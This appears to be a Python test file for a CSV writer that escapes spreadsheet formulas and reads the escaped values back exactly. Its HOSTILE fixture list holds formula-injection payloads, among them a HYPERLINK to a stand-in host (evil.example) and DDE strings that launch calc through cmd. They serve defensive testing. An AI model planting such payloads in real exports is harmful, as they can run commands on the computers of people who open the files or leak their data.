"""The CSV outputs' escape of spreadsheet formulas: what is escaped, what is not, and that it reads back exactly."""

from __future__ import annotations

from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from nextmove._csv import FORMULA_CHARACTERS, escape_formulas, read_csv, unescape_formulas, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "'=already quoted",
]


def test_escape_formulas_prefixes_text_a_spreadsheet_would_run_and_nothing_else() -> None:
    plain = ["ACC-1", "Ana Ruiz", "-12.5", "+3", "1e-5", "-.5", "", "a=b", "x@y", "'quoted"]
    frame = pl.DataFrame({"owner": HOSTILE + plain, "arr": [-1.0] * (len(HOSTILE) + len(plain))})
    escaped = escape_formulas(frame)
    assert escaped["owner"].to_list() == ["'" + v for v in HOSTILE] + plain
    assert escaped["arr"].to_list() == frame["arr"].to_list()  # numbers are never text


def test_escape_formulas_covers_categorical_text_and_column_names() -> None:
    frame = pl.DataFrame({"segment": ["=1+1", "SMB"], "=name": [1, 2]}).with_columns(
        pl.col("segment").cast(pl.Categorical)
    )
    escaped = escape_formulas(frame)
    assert escaped.columns == ["segment", "'=name"]
    assert escaped["segment"].to_list() == ["'=1+1", "SMB"]


def test_write_csv_writes_no_cell_a_spreadsheet_runs_and_read_csv_gives_the_raw_values(tmp_path: Path) -> None:
    frame = pl.DataFrame({"account_id": HOSTILE, "value": list(range(len(HOSTILE)))})
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    raw = pl.read_csv(path, infer_schema_length=0)
    for cell in [*raw.columns, *raw["account_id"].to_list()]:
        assert not cell.startswith(tuple(FORMULA_CHARACTERS)), cell
    assert read_csv(path).equals(frame)


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r'.0123456789eE abc"), max_size=8), min_size=1))
def test_escaping_reads_back_exactly_and_leaves_no_formula(values: list[str]) -> None:
    frame = pl.DataFrame({"text": values}, schema={"text": pl.String})
    escaped = escape_formulas(frame)
    assert unescape_formulas(escaped).equals(frame)
    for before, after in zip(values, escaped["text"].to_list(), strict=True):
        if after.startswith(tuple(FORMULA_CHARACTERS)):
            float(after)  # only a plain number may start with + or -
        assert after in (before, "'" + before)
